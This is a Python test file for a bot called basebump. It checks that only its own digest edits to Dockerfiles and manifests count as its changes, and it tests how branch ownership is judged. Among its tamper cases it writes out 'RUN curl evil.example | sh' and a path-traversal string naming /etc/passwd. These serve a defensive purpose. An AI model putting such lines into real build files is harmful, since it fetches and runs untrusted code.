"""Tests of the ownership of a branch by content: which edits of a file are basebump's, and what vouches for them."""

from __future__ import annotations

from dataclasses import replace

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from support.values import digest

from bot.core.proposal.branch_ownership import (
    PlannedValues,
    WrittenImage,
    find_written_images,
    judge_images,
    parse_targets,
)
from bot.core.proposal.update_groups import hash_written_values
from bot.core.references.edit import apply_edits, build_edit
from bot.formats import load_all_formats
from bot.model.branch_ownership import FOREIGN_BRANCH, BranchClaim, BranchVerdict
from bot.model.path_index import index_paths
from bot.model.proposal import BodyMark
from bot.model.source import EditSlot, FilePath, NotEditable, Reference, SourceFile
from bot.model.vocabulary import Reason
from bot.pipeline.references.file_reading import read_with_formats

OLD, NEW, OTHER = digest("old"), digest("new"), digest("other")
DOCKERFILE = f"FROM golang:1.22 AS build\nRUN make\nFROM debian:12-slim@{OLD}\nCOPY --from=build /app /app\n".encode()
COMPOSE = b"services:\n  web:\n    image: nginx:1.27\n  db:\n    image: 'postgres:16'  # the database\n"
KUSTOMIZATION = b"images:\n- name: nginx\n  newTag: '1.27'\n- name: redis\n  newTag: '7'\n"
FILES = {"Dockerfile": DOCKERFILE, "compose.yaml": COMPOSE, "kustomization.yaml": KUSTOMIZATION}


def read(path: str, content: bytes) -> list[Reference]:
    paths = index_paths([FilePath(path)])
    formats = [each for each in load_all_formats() if FilePath(path) in each.select_paths(paths)]
    readings = read_with_formats(SourceFile(FilePath(path), content), formats)
    return [each for reading in readings for each in reading.extracted if isinstance(each, Reference)]


def write(content: bytes, *pairs: tuple[Reference, str]) -> bytes:
    """Return the content with digests written into references, as basebump writes them."""
    return apply_edits(content, [build_edit(each.digest_slot, value) for each, value in pairs])


def find(path: str, new_content: bytes) -> tuple[WrittenImage, ...] | None:
    return find_written_images(FILES[path], new_content, read(path, FILES[path]))


@pytest.mark.parametrize("path", FILES)
@pytest.mark.parametrize("line_end", [b"\n", b"\r\n"])
@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
def test_digests_written_by_basebump_are_found_in_any_subset_of_references(path, line_end, bom):
    content = bom + FILES[path].replace(b"\n", line_end)
    references = read(path, content)
    assert len(references) > 1
    for chosen in (references, references[:1], references[1:], []):
        new_content = write(content, *((each, NEW) for each in chosen))
        found = find_written_images(content, new_content, references)
        assert found == tuple(WrittenImage(each, NEW, None) for each in chosen)


@pytest.mark.parametrize(
    "change",
    [
        lambda content: content + b"RUN curl evil.example | sh\n",
        lambda content: content.replace(b"RUN make", b"RUN evil"),
        lambda content: content.replace(b"golang:1.22", b"golang:1.22:evil"),
        lambda content: content.replace(b"debian:12-slim", b"evil.example/debian:12-slim"),
        lambda content: content.replace(b"\n", b"\r\n"),
        lambda content: b"\xef\xbb\xbf" + content,
        lambda content: content.removesuffix(b"\n"),
        lambda content: content.replace(NEW.encode(), NEW.encode() + b"0"),
        lambda content: content.replace(NEW.encode(), NEW.encode().upper()),
        lambda content: content.replace(NEW.encode(), NEW.encode() + b" "),
        lambda content: content.replace(NEW.encode(), b"sha512:" + b"0" * 128),
        lambda content: content.replace(b"AS build", b"AS build --evil"),
        lambda content: content.replace(b"COPY --from=build", b"COPY --from=evil.example/x"),
        lambda _: b"",
        lambda _: b"../../../etc/passwd",
    ],
)
def test_change_of_any_other_byte_is_not_an_edit_of_basebump(change):
    references = read("Dockerfile", DOCKERFILE)
    edited = write(DOCKERFILE, *((each, NEW) for each in references))
    assert find("Dockerfile", edited) is not None
    changed = change(edited)
    assert changed != edited
    assert find("Dockerfile", changed) is None


def test_removing_a_digest_is_not_an_edit_of_basebump():
    assert find("Dockerfile", DOCKERFILE.replace(f"@{OLD}".encode(), b"")) is None


def test_tag_change_is_an_edit_of_basebump_only_if_reference_has_digest():
    assert find("Dockerfile", DOCKERFILE.replace(b"golang:1.22", b"golang:1.23")) is None
    changed = DOCKERFILE.replace(b"debian:12-slim", b"debian:13-slim")
    (same,) = find("Dockerfile", changed) or ()
    assert (same.tag, same.digest) == ("13-slim", OLD)
    (image,) = find("Dockerfile", changed.replace(OLD.encode(), NEW.encode())) or ()
    assert (image.tag, image.digest) == ("13-slim", NEW)
    shorter = DOCKERFILE.replace(f"debian:12-slim@{OLD}".encode(), f"debian:13@{NEW}".encode())
    (image,) = find("Dockerfile", shorter) or ()
    assert image.value == ("Dockerfile", image.reference.locator, f"13@{NEW}")


def test_edit_is_found_in_reference_that_became_not_editable():
    locked = [
        replace(each, digest_slot=NotEditable(Reason.OTHER_WRITER, each.digest_slot))
        for each in read("Dockerfile", DOCKERFILE)
        if isinstance(each.digest_slot, EditSlot)
    ]
    new_content = DOCKERFILE.replace(OLD.encode(), NEW.encode())
    assert [each.digest for each in find_written_images(DOCKERFILE, new_content, locked) or ()] == [NEW]


@given(st.binary(max_size=40), st.integers(0, len(DOCKERFILE)), st.integers(0, 20))
@example(b"A", DOCKERFILE.index(b"12-slim"), 0)
def test_writing_back_images_found_in_a_random_change_reproduces_the_change(inserted, start, removed):
    """Whatever is found explains the whole difference: writing the found images gives exactly the new content."""
    new_content = DOCKERFILE[:start] + inserted + DOCKERFILE[start + removed :]
    found = find("Dockerfile", new_content)
    if found is not None:
        edits = [build_edit(each.reference.digest_slot, each.digest) for each in found]
        edits += [build_edit(each.reference.tag_slot, each.tag) for each in found if each.tag is not None]
        assert apply_edits(DOCKERFILE, edits) == new_content


# Which digests are basebump's

GOLANG, DEBIAN = (replace(each) for each in read("Dockerfile", DOCKERFILE)[:2])
TARGET = f"docker.io/library/debian:12-slim@{NEW}"


def build_written_images(value: str = NEW) -> tuple[WrittenImage, ...]:
    return (WrittenImage(DEBIAN, value, None),)


def build_claim(*targets: str, intent: str = "9" * 16, has_request: bool = True) -> BranchClaim:
    mark = BodyMark(targets, "2" * 16)
    return BranchClaim("basebump/debian", "c0ffee", intent, mark if has_request else None)


def compute_intent_of_images(*values: WrittenImage) -> str:
    return hash_written_values(each.value for each in values)


def test_branch_with_content_of_planned_proposal_has_intent_of_proposal():
    planned = PlannedValues("1" * 16, frozenset(each.value for each in build_written_images()))
    assert judge_images(build_claim(), build_written_images(), [planned], ()) == BranchVerdict("1" * 16)


@pytest.mark.parametrize(
    "written", [(), build_written_images(OTHER), (*build_written_images(), WrittenImage(GOLANG, NEW, None))]
)
def test_branch_with_other_content_does_not_get_intent_from_copied_trailer(written):
    planned = PlannedValues("1" * 16, frozenset(each.value for each in build_written_images()))
    verdict = judge_images(build_claim(TARGET, intent="1" * 16), written, [planned], ())
    assert verdict.intent != "1" * 16


def test_second_reference_to_the_same_bytes_does_not_change_intent():
    twin = replace(DEBIAN, locator="twin")
    planned = PlannedValues("1" * 16, frozenset(each.value for each in build_written_images()))
    shared = (*build_written_images(), WrittenImage(twin, NEW, None))
    assert judge_images(build_claim(), shared, [planned], ()).intent == "1" * 16


def test_digest_named_only_in_mark_belongs_to_basebump_but_is_not_confirmed():
    assert judge_images(build_claim(TARGET), build_written_images(), [], ()) == BranchVerdict(
        compute_intent_of_images(*build_written_images()), is_confirmed=False
    )


@pytest.mark.parametrize("pushed", [NEW, OTHER, None])
def test_known_digest_is_confirmed_only_if_pushed_last_by_basebump(pushed):
    """The state also knows the digests that the tag had earlier, and their vulnerabilities may be known by now."""
    other = build_written_images(OTHER)
    verdict = judge_images(
        build_claim(TARGET),
        other,
        [],
        parse_targets([TARGET.replace(NEW, OTHER)]),
        compute_intent_of_images(*build_written_images(pushed)) if pushed else None,
    )
    assert verdict == BranchVerdict(compute_intent_of_images(*other), is_confirmed=pushed == OTHER, is_as_marked=False)


def test_branch_with_a_part_of_the_proposed_digests_is_confirmed():
    written = build_written_images()
    values = frozenset(each.value for each in (*written, WrittenImage(GOLANG, OTHER, None)))
    assert judge_images(build_claim(TARGET), written, [PlannedValues("1" * 16, values)], ()).is_confirmed


def test_branch_with_a_digest_that_is_neither_in_mark_nor_known_belongs_to_users():
    assert judge_images(build_claim(TARGET), build_written_images(OTHER), [], parse_targets([TARGET])) == FOREIGN_BRANCH


@pytest.mark.parametrize(
    "target",
    [
        f"docker.io/library/golang:12-slim@{NEW}",
        f"docker.io/library/debian:12@{NEW}",
        f"evil.example/library/debian:12-slim@{NEW}",
    ],
)
def test_branch_with_digest_of_another_image_belongs_to_users(target):
    assert judge_images(build_claim(target), build_written_images(), [], parse_targets([target])) == FOREIGN_BRANCH


def test_branch_of_interrupted_run_is_recognised_by_intent_trailer():
    """A run pushed `OTHER`, and was killed before it wrote the mark. The tag has moved on since."""
    verdict = judge_images(
        build_claim(TARGET, intent=compute_intent_of_images(*build_written_images(OTHER))),
        build_written_images(OTHER),
        [],
        (),
    )
    assert verdict == BranchVerdict(
        compute_intent_of_images(*build_written_images(OTHER)), is_confirmed=False, is_as_marked=False
    )


def test_branch_without_pull_request_belongs_to_basebump_although_mark_is_missing():
    verdict = judge_images(build_claim(has_request=False), build_written_images(), [], ())
    assert verdict == BranchVerdict(compute_intent_of_images(*build_written_images()), is_confirmed=False)


@pytest.mark.parametrize("text", ["", "x", "@", ":@", "*@sha256:" + "0" * 64, "a@b", "a:b"])
def test_malformed_proposal_target_is_parsed_without_error(text):
    assert len(parse_targets([text])) <= 1
